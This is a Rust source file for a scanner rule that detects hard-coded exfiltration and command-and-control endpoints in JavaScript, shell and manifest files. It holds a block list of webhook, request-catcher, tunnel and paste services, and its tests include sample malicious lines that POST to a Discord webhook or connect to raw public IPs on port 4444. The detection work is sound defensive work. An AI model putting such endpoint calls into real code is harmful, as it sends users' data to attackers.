use std::sync::LazyLock;

use aho_corasick::AhoCorasick;

use crate::context::{FileContext, FileKind};
use crate::report::{Confidence, Finding, Severity};
use crate::rule::{Rule, RuleMeta, declare_rule};
use crate::rules::{
    Value, ValueNeedles, is_public_ipv4, matcher, text_contains, url_host, values, values_haystack,
    values_may_contain,
};

/// Services used to receive stolen data or to run C2 (matched case-insensitively).
pub(crate) const ENDPOINTS: &[&str] = &[
    "webhook.site",
    "discord.com/api/webhooks",
    "discordapp.com/api/webhooks",
    "pastebin.com",
    "api.telegram.org",
    "ngrok.io",
    "ngrok-free.app",
    "ngrok.app",
    "oast.fun",
    "oast.pro",
    "oast.live",
    "oast.site",
    "oast.online",
    "oast.me",
    "oastify.com",
    "interact.sh",
    "burpcollaborator.net",
    "requestbin",
    "pipedream.net",
    "canarytokens",
    "transfer.sh",
    "bashupload.com",
    "file.io",
    "hookbin.com",
    "beeceptor.com",
    "pipedream.com",
    "trycloudflare.com",
    "serveo.net",
    "localtunnel.me",
    "loca.lt",
    "dnslog.cn",
    "ceye.io",
    "requestcatcher.com",
    "ipinfo.io",
    "ip-api.com",
    "api.ipify.org",
    "ifconfig.me",
    "hastebin",
    "paste.ee",
    "rentry.co",
    "temp.sh",
    "workers.dev",
    "glitch.me",
    "herokuapp.com",
    "repl.co",
    "000webhostapp.com",
];
/// From `ipinfo.io` on, entries are IP lookup or free hosting services: medium, not high.
const MEDIUM_FROM: usize = 33;
/// How far (bytes) an IP literal may sit from a network call to count as its address.
const OPTIONS_DISTANCE: usize = 256;

static ENDPOINT_MATCHER: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| matcher(ENDPOINTS));

declare_rule! {
    /// ### What it does
    /// Finds hard-coded exfiltration and C2 endpoints in string values: request catchers
    /// (`webhook.site`, Burp/interactsh `oast.*`), Discord webhooks, Telegram bot API, paste
    /// sites, tunnels (`ngrok`), and URLs or sockets pointing at raw public IP addresses. IP
    /// lookup services and free hosting are medium; a raw-IP URL is high.
    ///
    /// ### Why is this bad?
    /// Legitimate libraries talk to their vendor's API, not to a throwaway request bin or a
    /// bare IP; these endpoints are where stolen tokens and host fingerprints are sent.
    ///
    /// ### Examples
    /// Incorrect:
    /// ```js
    /// fetch('https://discord.com/api/webhooks/123/abc', { method: 'POST', body });
    /// ```
    /// Correct:
    /// ```js
    /// fetch('https://api.example-vendor.com/v1/items');
    /// ```
    ExfiltrationEndpoint, "exfiltration-endpoint", Network,
    tokens = &["http", "fetch", "XMLHttpRequest", "WebSocket", "net", "dgram", "dns", "curl", "wget"]
}

impl Rule for ExfiltrationEndpoint {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn run_file(&self, file: &FileContext<'_>, out: &mut Vec<Finding>) {
        if !matches!(
            file.kind,
            FileKind::Script | FileKind::ShellLike | FileKind::Manifest
        ) {
            return;
        }
        let Some(automaton) = ENDPOINT_MATCHER.as_ref() else {
            return;
        };
        let manifest_values;
        let file_values = if file.kind == FileKind::Manifest {
            manifest_values = file
                .manifest
                .map(|manifest| {
                    manifest
                        .scripts
                        .values()
                        .map(|script| crate::rules::Value {
                            offset: file.text.find(script.as_str()).unwrap_or(0),
                            text: script.as_str(),
                            decoded: false,
                        })
                        .collect::<Vec<_>>()
                })
                .unwrap_or_default();
            &manifest_values
        } else {
            values(file)
        };
        // No value holds an endpoint when their haystack does not (manifest scripts are
        // always searched).
        let may_name_endpoint =
            file.kind == FileKind::Manifest || values_may_contain(file, ValueNeedles::Endpoints);
        // `url_host` finds nothing without a `://`, which no value holds when their haystack
        // does not.
        let may_name_url =
            file.kind == FileKind::Manifest || text_contains(values_haystack(file), "://");
        let searched: &[Value<'_>] = if may_name_endpoint || may_name_url {
            file_values
        } else {
            &[]
        };
        for value in searched {
            if value.text.len() > 4096 {
                continue;
            }
            if may_name_endpoint
                && let Some(found) = automaton.find(value.text)
                && (value.text.contains("://")
                    || value.text[..found.start()].ends_with('.')
                    || value.text[found.end()..].starts_with('/')
                    || value.text.len() < 100 && !value.text.contains(' '))
                && !value.text.contains('*')
            {
                let index = found.pattern().as_usize();
                let endpoint = ENDPOINTS.get(index).copied().unwrap_or_default();
                let severity = if index >= MEDIUM_FROM {
                    Severity::Medium
                } else {
                    Severity::High
                };
                out.push(file.finding(
                    &Self::META,
                    severity,
                    Confidence::High,
                    Some(value.offset),
                    format!("hard-coded exfiltration/C2 endpoint `{endpoint}`"),
                    None,
                ));
                continue;
            }
            // Every scheme `url_host` knows has a `:`; most values have none.
            if may_name_url
                && memchr::memchr(b':', value.text.as_bytes()).is_some()
                && let Some(host) = url_host(value.text)
                && is_public_ipv4(host)
            {
                out.push(file.finding(
                    &Self::META,
                    Severity::High,
                    Confidence::High,
                    Some(value.offset),
                    format!("URL with a raw IP address `{host}`"),
                    None,
                ));
            }
        }
        // `net.connect(port, '1.2.3.4')` and friends.
        if file.js.is_some() {
            let network_calls: Vec<_> = file.network_calls().collect();
            let mut connects_to_ip = false;
            for call in &network_calls {
                if let Some(host) = call
                    .arguments
                    .iter()
                    .filter_map(|argument| argument.constant.as_deref())
                    .find(|constant| is_public_ipv4(constant))
                {
                    connects_to_ip = true;
                    out.push(file.finding(
                        &Self::META,
                        Severity::High,
                        Confidence::High,
                        Some(call.offset as usize),
                        format!("connects to the raw IP address `{host}`"),
                        None,
                    ));
                }
            }
            // `https.request({ hostname: '1.2.3.4', … })` or an options object built just
            // before the call: a bare IP literal within a few lines of a network call.
            let near_a_call = |offset: usize| {
                network_calls
                    .iter()
                    .any(|call| (call.offset as usize).abs_diff(offset) <= OPTIONS_DISTANCE)
            };
            // Without a network call no value is near one.
            if !connects_to_ip
                && !network_calls.is_empty()
                && let Some(value) = file_values
                    .iter()
                    .find(|value| is_public_ipv4(value.text) && near_a_call(value.offset))
            {
                out.push(file.finding(
                    &Self::META,
                    Severity::Medium,
                    Confidence::Medium,
                    Some(value.offset),
                    format!("network call to the raw IP address `{}`", value.text),
                    None,
                ));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tester::test_rule;

    #[test]
    fn test() {
        let pass = vec![
            "fetch('https://api.example-vendor.com/v1/items');".into(),
            "// see https://webhook.site for testing\nconst x = 1;".into(),
            "const local = 'http://127.0.0.1:8080/'; const lan = 'http://192.168.1.1/';".into(),
            "const version = '1.2.3.4';".into(),
            "const publicSuffixes = {'ngrok.io': true, 'herokuapp.com': true};".into(),
            "const resolvers = ['8.8.8.8', '1.1.1.1']; module.exports = resolvers;".into(),
            "const https = require('https'); https.request({ hostname: '127.0.0.1', port: 8080 });"
                .into(),
        ];
        let fail = vec![
            "fetch('https://discord.com/api/webhooks/123/abc', { method: 'POST' });".into(),
            "const u = 'https://webhook.site/bb8ca5f6-4175';".into(),
            "require('http').get('http://166.88.61.72/explorer/search.asp');".into(),
            "const net = require('net'); net.connect(4444, '45.61.1.2');".into(),
            "const host = 'dns1.abcdef.oast.fun';".into(),
            "const u = atob('aHR0cHM6Ly93ZWJob29rLnNpdGUveA==');".into(),
            "const https = require('https'); https.request({ hostname: '45.61.12.9', path: '/c', method: 'POST' });".into(),
            "const https = require('https'); const options = { hostname: '45.61.12.9', port: 443 }; https.request(options).end();".into(),
        ];
        test_rule(ExfiltrationEndpoint::META.name, pass, fail);
    }
}
